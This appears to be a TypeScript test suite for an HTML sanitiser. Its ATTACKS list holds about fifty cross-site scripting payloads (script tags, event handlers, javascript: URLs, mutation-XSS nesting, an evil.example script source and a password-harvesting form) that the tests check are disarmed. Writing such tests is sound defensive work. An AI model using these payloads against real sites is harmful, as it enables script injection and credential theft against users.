import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { unsafeMarkup } from '../../test/promises.ts'
import { cleanHtml } from '../index.ts'
import { WIRE_LIMITS } from '../limits.ts'
import { cleanBody, fromPlainText } from './clean-html.ts'

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)//',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p type=password><button>ok</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="/relative">x</a>',
  '<a href=\'https://a.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://a.example/" target=_blank onmouseover=alert(1) class=x id=y>x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><script>alert(1)</script></select>',
  '<table><script>alert(1)</script><tr><td onclick=alert(1)>x</td></tr></table>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<\u0000script>alert(1)</script>',
  '<a href="mailto:x@y.example?body=<script>alert(1)</script>">x</a>',
  '<portal src=x></portal><dialog open>x</dialog>',
  '<p>unclosed <b>bold <a href="https://a.example/"',
]

describe('clean HTML', () => {
  for (const attack of ATTACKS)
    it(`disarms ${JSON.stringify(attack)}`, () => {
      const clean = cleanHtml(attack)
      assert.equal(unsafeMarkup(clean), null, clean)
      // Whatever is left of code is text for readers, escaped; dangerous places must not have been kept.
      assert.doesNotMatch(
        clean,
        /<[^>]*(?:script|onerror|onclick|onload|style|srcdoc|data:|vbscript)/i,
        clean,
      )
    })

  it('drops what is dropped with its content', () => {
    for (const name of [
      'script',
      'style',
      'iframe',
      'object',
      'svg',
      'form',
      'math',
      'template',
      'noscript',
      'select',
    ])
      assert.equal(cleanHtml(`<p>a</p><${name}>secret</${name}><p>b</p>`), '<p>a</p><p>b</p>', name)
  })

  it('unwraps everything else, losing no word', () => {
    assert.equal(
      cleanHtml('<article><font color=red>one <u>two</u></font><x-y>three</x-y> <span>four</span></article>'),
      '<p>one twothree four</p>',
    )
  })

  for (const [what, html, clean] of [
    ['makes bare text a paragraph', 'a &amp; b', '<p>a &amp; b</p>'],
    ['ends a paragraph at two line breaks', 'one<br><br>two<br>three', '<p>one</p><p>two<br>three</p>'],
    ['ends a paragraph at a division', 'one<div>two</div>three', '<p>one</p><p>two</p><p>three</p>'],
    ['lets no paragraph be empty', '<p> </p><p><b></b></p><p>&nbsp;</p><p>x</p>', '<p>\u00a0</p><p>x</p>'],
    ['knows three levels of headings', '<h1>a</h1><h3>b</h3><h6>c</h6>', '<h2>a</h2><h3>b</h3><h4>c</h4>'],
    [
      'keeps emphasis',
      '<p><b>a</b> <strong>b</strong> <i>c</i> <em>d</em></p>',
      '<p><strong>a</strong> <strong>b</strong> <em>c</em> <em>d</em></p>',
    ],
    [
      'keeps links to pages and mail',
      '<a href="https://a.example/?x=1&amp;y=2">a</a> <a href="mailto:a@b.example">b</a>',
      '<p><a href="https://a.example/?x=1&amp;y=2">a</a> <a href="mailto:a@b.example">b</a></p>',
    ],
    [
      'does not put a link into a link',
      '<a href="https://a.example/">a<a href="https://b.example/">b</a></a>',
      '<p><a href="https://a.example/">a</a><a href="https://b.example/">b</a></p>',
    ],
    [
      'keeps lists in lists',
      '<ul><li>a<ol><li>b</ol><li>c</ul>',
      '<ul><li>a<ol><li>b</li></ol></li><li>c</li></ul>',
    ],
    [
      'keeps quotes with their paragraphs',
      '<blockquote>a<p>b</p></blockquote>',
      '<blockquote><p>a</p><p>b</p></blockquote>',
    ],
    [
      'keeps simple tables',
      '<table class=x><thead><tr><th>a<th>b<tbody><tr><td>1<td><b>2</b></table>',
      '<table><tbody><tr><th>a</th><th>b</th></tr><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table>',
    ],
    ['closes what was left open', '<p>a <b>b<p>c', '<p>a <strong>b</strong></p><p>c</p>'],
    [
      'takes paragraphs out of a link around them',
      '<a href="https://a.example/"><p>a</p><p>b</p></a>',
      '<p>a</p><p>b</p>',
    ],
    ['folds spaces, but not those that may not break', '<p>a \n\t b\u00a0c</p>', '<p>a b\u00a0c</p>'],
    ['leaves text of other scripts alone', '<p>می‌رود 👩‍🌾 ქართული</p>', '<p>می‌رود 👩‍🌾 ქართული</p>'],
    [
      'reads typed copy by its lines',
      '<pre>one\nmore\n\n<b>two</b><script>x</script></pre>',
      '<p>one more</p><p>two</p>',
    ],
    ['gives nothing for nothing', '', ''],
  ] as const)
    it(what, () => assert.equal(cleanHtml(html), clean))

  it('is clean for any text, and cleaning it again changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...ATTACKS,
        '<p>',
        '</p>',
        '<b>',
        '</b>',
        '<ul>',
        '<li>',
        '</ul>',
        '<table>',
        '<tr>',
        '<td>',
        '<br>',
        '<blockquote>',
        '</blockquote>',
        '<div>',
        '</div>',
        '<a href="https://a.example/x">',
        '</a>',
        '<h2>',
        ' ',
        'word',
      ),
      fc.string({ maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''))
        assert.equal(unsafeMarkup(clean), null, clean)
        assert.equal(cleanHtml(clean), clean)
      }),
      { seed: 3, numRuns: 3000 },
    )
  })

  it('gives blocks that hold every word of the body', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            '<p>',
            '</p>',
            '<ul>',
            '<li>',
            '</ul>',
            '<blockquote>',
            '</blockquote>',
            '<h3>',
            '</h3>',
            'alpha ',
            'beta ',
            '<i>',
            '</i>',
          ),
          { maxLength: 30 },
        ),
        (pieces) => {
          const body = cleanBody(pieces.join(''))
          const words = (text: string): string =>
            text
              .replace(/<[^>]*>/g, ' ')
              .replace(/\s+/g, ' ')
              .trim()
          assert.equal(words(body.blocks.map((block) => block.html).join(' ')), words(body.html))
        },
      ),
      { seed: 3, numRuns: 1000 },
    )
  })

  it('takes time in proportion to the length, also for markup made to be slow', () => {
    const count = 40_000
    const slow = [
      '<a href=x>'.repeat(count),
      '<table>'.repeat(count),
      '<nobr>x'.repeat(count),
      '<b><p>'.repeat(count / 2),
      Array.from({ length: count }, (_, index) => `<b a${index}>x`).join(''),
      `<a ${Array.from({ length: 200_000 }, (_, index) => `x${index}`).join(' ')}>x`,
      `x<li>${'<br>'.repeat(count)}y`,
      '<div>'.repeat(count),
      '<ul><li>'.repeat(count / 2),
      '<'.repeat(1_000_000),
      '<!--'.repeat(count),
      `<table><tr><td>${'<span>'.repeat(90)}${'<i><p>x</p></i>'.repeat(count / 4)}`,
    ]
    const start = performance.now()
    for (const html of slow) assert.equal(unsafeMarkup(cleanHtml(html)), null)
    assert.ok(performance.now() - start < 8000, 'seconds, not minutes')
  })

  it('gives a body beyond the limit as text without markup', () => {
    const clean = cleanHtml('<p>word</p>\n'.repeat(Math.ceil(WIRE_LIMITS.html / 10)))
    assert.ok(clean.startsWith('<p>word</p>'))
    assert.equal(unsafeMarkup(clean), null)
  })
})

describe('plain text', () => {
  it('has paragraphs between empty lines', () => {
    assert.equal(fromPlainText('one\ntwo\r\n\r\nthree <b>').html, '<p>one two</p><p>three &lt;b&gt;</p>')
  })

  it('has a paragraph for each line if there is no empty one', () => {
    assert.equal(fromPlainText('one\ntwo\n').html, '<p>one</p><p>two</p>')
  })
})

describe('sections that are not the story', () => {
  it('are set aside, wherever they stand', () => {
    const body = cleanBody(
      '<div><section class="main wide"><p>Story.</p></section><section class="linkbox"><p>https://a.example</p></section></div><p>Tel. 0000-555-0105</p>',
    )
    assert.equal(body.html, '<p>Story.</p>')
    assert.deepEqual(body.aside, [
      { role: 'linkbox', text: 'https://a.example' },
      { role: 'p', text: 'Tel. 0000-555-0105' },
    ])
  })

  it('are set aside by their class if there is no main section', () => {
    const body = cleanBody(
      '<p>Story.</p><div class="infobox contact">Call 0000-555-0106</div><p class="contact">Kept: a paragraph is copy.</p>',
    )
    assert.equal(body.html, '<p>Story.</p><p>Kept: a paragraph is copy.</p>')
    assert.deepEqual(body.aside, [{ role: 'infobox contact', text: 'Call 0000-555-0106' }])
  })
})
